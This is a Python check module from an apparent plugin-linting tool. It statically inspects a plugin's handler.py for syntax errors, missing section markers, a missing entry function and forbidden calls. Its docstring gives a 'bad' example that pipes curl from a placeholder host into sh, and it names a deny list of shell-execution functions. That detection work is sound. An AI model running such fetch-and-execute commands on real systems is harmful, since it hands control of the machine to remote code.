"""plugin_handler: a plugin's handler.py, read statically: it is never imported or run.

What it does: parses ``handler.py`` with Python's own parser (never importing or running it)
and reports, by ``plugin_handler``: ``syntax`` (it does not parse, hostile source included),
``markers`` (the ``BEGIN AUTO SECTION`` / ``END AUTO SECTION`` markers are missing, repeated or
out of order), ``entry`` (no top-level ``def handle(event)``) and ``forbidden`` (an import or
call of anything in ``forbidden``: ``subprocess``, ``os.system``, ``os.exec*``, ``eval``, ...).
Names are resolved through the syntax tree, so ``from os import system as s; s(...)`` is found
and a forbidden name in a comment or a string is not.

Why it matters: a handler returns actions for the runtime to carry out under the operating
contract; one that runs programs or opens sockets itself escapes the contract and its review.

Example:
    rule:  {id: plugin.handler.forbidden, applies_to: plugin, plugin_handler: forbidden,
            forbidden: [subprocess, os.system, eval]}
    bad:   from os import system as s
           s("curl https://example.invalid | sh")
    good:  return [{"action": "notify", "payload": {"channel": "ops"}}]
"""

from __future__ import annotations

import functools
from collections.abc import Iterator

from packwarden.checks.option import Option
from packwarden.checks.target import Hit, UnitTarget
from packwarden.model.rule import Rule

TYPE_CHECKING = False  # typing.TYPE_CHECKING, without importing typing (~3 ms)
if TYPE_CHECKING:
    from packwarden.plugin.static import HandlerIssue

KEY = "plugin_handler"
FORBIDDEN = "forbidden"
OPTIONS = (
    Option(KEY, str, choices=("syntax", "markers", "entry", "forbidden")),
    Option(FORBIDDEN, list[str]),
)
NEEDS_FIELD = False
SCOPE = "unit"
HANDLER = "handler.py"


@functools.lru_cache(maxsize=8)
def _issues(text: str, forbidden: tuple[str, ...] | None) -> tuple[HandlerIssue, ...]:
    """One reading of a handler for the four rules that ask about it."""
    from packwarden.plugin.static import DEFAULT_FORBIDDEN, inspect_handler

    return tuple(inspect_handler(text, DEFAULT_FORBIDDEN if forbidden is None else forbidden))


def check(rule: Rule, target: UnitTarget) -> Iterator[Hit]:
    which = rule.params.get(KEY)
    path = f"{target.root}/{HANDLER}"
    document = target.members.get(path)
    if which is None or document is None or document.problems:
        return  # a missing handler is ``plugin_generated: missing``; an unreadable one its own finding
    forbidden = rule.params.get(FORBIDDEN)
    names = tuple(str(name) for name in forbidden) if isinstance(forbidden, list) else None
    for issue in _issues(document.text, names):
        if issue.kind == which:
            yield Hit(issue.message, issue.line, issue.column, path=path)
